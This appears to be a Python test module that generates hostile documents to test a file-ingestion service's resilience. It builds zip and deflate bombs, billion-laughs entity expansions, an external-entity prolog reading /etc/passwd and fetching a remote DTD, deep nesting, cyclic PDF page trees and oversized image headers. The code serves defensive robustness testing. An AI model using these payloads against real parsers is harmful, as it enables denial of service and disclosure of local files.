"""Files made to hurt whoever opens them, in every format: small ones that grow, deep ones, endless ones, false ones."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from tests.services.ingest import word_files
from tests.services.ingest.compound import compound_file
from tests.services.ingest.seed_files import seeds, zipped

MEGABYTES = 1_000_000

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'
OUTSIDE = (
    '<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd"><!ENTITY % net SYSTEM "http://example.org/x.dtd"> %net;]>'
)


def members(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_member(package: bytes, name: str, content: bytes) -> bytes:
    return zipped({**members(package), name: content})


def with_prolog(package: bytes, name: str, prolog: str, entity: str) -> bytes:
    """The package with a document type before a part, and an entity of it in the first text."""
    whole = members(package)[name].decode()
    head, _, rest = whole.partition("?>")
    text_at = rest.index(">", rest.index("<", rest.index("<") + 1)) + 1
    return with_member(package, name, f"{head}?>{prolog}{rest[:text_at]}{entity}{rest[text_at:]}".encode())


PARTS = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "ods": "content.xml", "odt": "content.xml"}
CELL_2003 = '<Row ss:Index="2147483647"><Cell ss:Index="2147483647"><Data ss:Type="Number">1</Data></Cell></Row>'


def packages() -> dict[str, bytes]:
    """Word, Excel and OpenDocument packages."""
    found: dict[str, bytes] = {}
    for form, part in PARTS.items():
        package = seeds()[form]
        found[f"{form}: a part that unpacks to 300 MB"] = bursting(package, part)
        found[f"{form}: a billion laughs"] = with_prolog(package, part, LAUGHS, "&l11;")
        found[f"{form}: entities from outside"] = with_prolog(package, part, OUTSIDE, "&out;")
        found[f"{form}: 10⁵ deep"] = with_member(package, part, b"<a>" * 100_000)
        found[f"{form}: without its main part"] = zipped({k: v for k, v in members(package).items() if k != part})
        found[f"{form}: two thirds of it"] = package[: len(package) * 2 // 3]
        found[f"{form}: a main part of noise"] = with_member(package, part, bytes(range(256)) * 400)
    rows = "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 1_000_000
    found["docx: a million empty rows"] = word_files.docx(f"<w:tbl>{rows}</w:tbl>")
    found["docx: a million empty paragraphs"] = word_files.docx("<w:p/>" * 1_000_000)
    wide = '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/><w:vMerge w:val="restart"/></w:tcPr><w:p/></w:tc>'
    found["docx: spans of 10⁹"] = word_files.docx(f"<w:tbl>{f'<w:tr>{wide * 20}</w:tr>' * 2000}</w:tbl>")
    table = "<w:tbl><w:tr><w:tc>"
    found["docx: tables 30,000 deep"] = word_files.docx(table * 30_000 + "</w:tc></w:tr></w:tbl>" * 30_000)
    sheet = members(seeds()["xlsx"])[PARTS["xlsx"]].decode()
    last = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    merged = "".join(f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(1, 3000))
    for name, new in {
        "a cell in the last corner": sheet.replace("</sheetData>", last),
        "merges over everything": sheet.replace("</sheetData>", f"</sheetData><mergeCells>{merged}</mergeCells>"),
        "a million rows": sheet.replace("</sheetData>", "".join(f'<row r="{n}"/>' for n in range(1, 1_000_000)) + last),
        "a lying dimension": sheet.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'),
    }.items():
        found[f"xlsx: {name}"] = with_member(seeds()["xlsx"], PARTS["xlsx"], new.encode())
    content = members(seeds()["ods"])["content.xml"].decode()
    cell = '<table:table-cell table:number-columns-repeated="1000000000" office:value-type="float" office:value="1"/>'
    repeated = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row></table:table>'
    found["ods: rows repeated 10⁹ times"] = with_member(
        seeds()["ods"], "content.xml", content.replace("</table:table>", repeated, 1).encode()
    )
    found["ooxml: empty"] = zipped({"[Content_Types].xml": b"<Types/>", "word/x.xml": b""})
    return found


def bursting(package: bytes, part: str) -> bytes:
    """The package whose part is 300 MB of blanks, written without holding them."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in members(package).items():
            if name != part:
                archive.writestr(name, content)
        with archive.open(part, "w", force_zip64=True) as written:
            for _ in range(30):
                written.write(b" " * 10 * MEGABYTES)
    return target.getvalue()


def markup() -> dict[str, bytes]:
    """Single XML files and web pages."""
    found: dict[str, bytes] = {}
    for form in ("word2003", "flat_opc", "spreadsheet2003"):
        whole = seeds()[form].decode()
        head, _, rest = whole.partition("?>")
        text_at = rest.index("</") if "</" in rest else len(rest)
        found[f"{form}: a billion laughs"] = f"{head}?>{LAUGHS}{rest[:text_at]}&l11;{rest[text_at:]}".encode()
        found[f"{form}: entities from outside"] = f"{head}?>{OUTSIDE}{rest[:text_at]}&out;{rest[text_at:]}".encode()
        found[f"{form}: two thirds of it"] = whole.encode()[: len(whole.encode()) * 2 // 3]
        root = rest[rest.rindex("<", 0, rest.index("xmlns")) : rest.index(">", rest.index("xmlns")) + 1]
        found[f"{form}: 10⁵ deep"] = f"{head}?>{root}{'<a>' * 100_000}".encode()
    found["spreadsheet2003: a cell in the last corner"] = seeds()["spreadsheet2003"].replace(
        b"</Table>", CELL_2003.encode() + b"</Table>"
    )
    page = seeds()["html"].decode()
    found["html: spans of 10⁹"] = page.replace("<td", '<td colspan="1000000000" rowspan="1000000000"').encode()
    found["html: 10⁵ deep"] = ("<div>" * 100_000 + page).encode()
    found["html: 300,000 attributes"] = (
        "<table><tr><td " + " ".join(f"a{n}=1" for n in range(300_000)) + ">x"
    ).encode()
    found["html: 20 MB of cells"] = b"<table>" + b"<td>" * 4_900_000
    found["html: 10⁵ nested tables"] = b"<table><tr><td>" * 100_000
    rules = "<style>" + ".a .b{display:none}" * 40_000 + "</style>"
    found["html: style sheets without end"] = (rules + "<p class=b>1</p>" * 100_000).encode()
    slow = "<style>:has(:nth-child(2n):has(p ~ p)) ~ p {display:none}</style>"
    found["html: a selector without end"] = (slow + "<div><p>1</p></div>" * 60_000).encode()
    found["mht: 10⁴ parts in parts"] = (
        b"MIME-Version: 1.0\n" + b"Content-Type: multipart/mixed; boundary=x\n\n--x\n" * 10_000
    )
    found["text: 20 MB of bars"] = b"|" * 19_999_000
    found["markdown: 4 MB of stars"] = b"# x\n" + b"*_" * 2_000_000
    found["markdown: brackets"] = b"# x\n" + b"![" * 2_000_000
    found["markdown: tables"] = b"# x\n" + b"<table>\n" * 1_000_000
    found["canonical: arrays"] = b"[" * 10_000_000
    found["rtf: 10⁶ groups"] = b"{\\rtf1" + b"{" * 1_000_000
    found["rtf: a binary of 2 GB"] = b"{\\rtf1 \\bin2147483647 " + b"x" * 1000
    found["rtf: rows"] = b"{\\rtf1 " + b"\\trowd\\cellx1\\intbl x\\cell\\row" * 500_000 + b"}"
    return found


def archives() -> dict[str, bytes]:
    """Zip archives, and files that are no archives."""
    burst = zipped({"a.txt": b" " * 60 * MEGABYTES})
    found = {
        "zip: a text that unpacks to 60 MB": burst,
        "zip: archives in archives": zipped({f"{n}.zip": burst for n in range(9)}),
        "zip: 10⁴ files": zipped({f"{n}.txt": b"x" for n in range(10_000)}),
        "zip: a report and a bursting one": zipped(
            {"a.html": b"<p>x", "b.docx": bursting(seeds()["docx"], PARTS["docx"])}
        ),
        "doc: streams of nothing": compound_file({"WordDocument": b"\0" * 5000}),
        "doc: streams of noise": compound_file({"WordDocument": bytes(range(256)) * 40, "1Table": b"\xff" * 5000}),
        "xls: records of noise": compound_file({"Workbook": b"\x09\x08\xff\xff" + bytes(range(256)) * 40}),
    }
    for form in ("doc", "xls", "rtf", "pdf", "mht", "zip"):
        data = seeds()[form]
        found[f"{form}: a third of it"] = data[: len(data) // 3]
    return found


def pdf_of(objects: Mapping[int, bytes], root: int = 1) -> bytes:
    """A PDF file of these objects."""
    body, places = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 %c \n" % (places.get(n, 0), b"nf"[n not in places]) for n in range(max(places) + 1))
    trailer = b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (max(places) + 1, root, len(body))
    return body + b"xref\n0 %d\n" % (max(places) + 1) + table + trailer


def _page(parent: int, content: int, box: bytes = b"0 0 595 842") -> bytes:
    return b"<</Type/Page/Parent %d 0 R/MediaBox[%s]/Contents %d 0 R>>" % (parent, box, content)


def _stream(content: bytes, filters: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), filters, content)


def pdfs() -> dict[str, bytes]:
    """PDF files."""
    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    one = {1: catalog, 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: _page(2, 4)}
    deep = {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 1, n - 1) for n in range(2, 20_000)}
    burst = zlib.compress(zlib.compress(b" 0 0 m 9 9 l S" * 30 * MEGABYTES, 9), 9)
    twice = b"/Filter[/FlateDecode/FlateDecode]"
    return {
        "pdf: pages that hold each other": pdf_of(
            {1: catalog, 2: b"<</Type/Pages/Kids[3 0 R]/Count 9>>", 3: b"<</Type/Pages/Kids[2 0 R]/Count 9>>"}
        ),
        "pdf: pages 20,000 deep": pdf_of({1: catalog, **deep, 20_000: _page(19_999, 20_001), 20_001: _stream(b"")}),
        "pdf: a count of 10⁹ pages": pdf_of(
            {**one, 2: b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>", 4: _stream(b"")}
        ),
        "pdf: one page 10⁵ times": pdf_of(
            {**one, 2: b"<</Type/Pages/Kids[%s]/Count 100000>>" % (b"3 0 R " * 100_000), 4: _stream(b"")}
        ),
        "pdf: a content that unpacks to 420 MB": pdf_of({**one, 4: _stream(burst, twice)}),
        "pdf: 10⁶ lines": pdf_of({**one, 4: _stream(b"".join(b"0 %d m 9 %d l S " % (n, n) for n in range(700_000)))}),
        "pdf: graphics states 10⁶ deep": pdf_of({**one, 4: _stream(b"q " * 1_000_000)}),
        "pdf: a page of 10⁹ points": pdf_of({**one, 3: _page(2, 4, b"0 0 1000000000 1000000000"), 4: _stream(b"")}),
        "pdf: arrays 10⁵ deep": pdf_of({**one, 4: b"[" * 100_000}),
    }


def pictures() -> dict[str, bytes]:
    """Pictures."""
    wide = zlib.compress(b"\0" * 7_501 * 60_000, 9)
    return {
        "png: 60,000 by 60,000": _png(60_000, 60_000, wide),
        "png: a side of 2³¹": _png(2**31 - 1, 1, wide),
        "png: cut off": _png(2_000, 2_000, wide)[:60],
        "gif: of nothing": b"GIF89a" + b"\xff" * 200,
        "jpeg: of nothing": b"\xff\xd8\xff\xe0" + b"\0" * 2000,
        "tiff: directories in a circle": b"II*\0\x08\0\0\0\0\0\x08\0\0\0",
    }


def _png(width: int, height: int, content: bytes) -> bytes:
    """A picture of one bit a point that says it is so large."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", content) + chunk(b"IEND", b"")
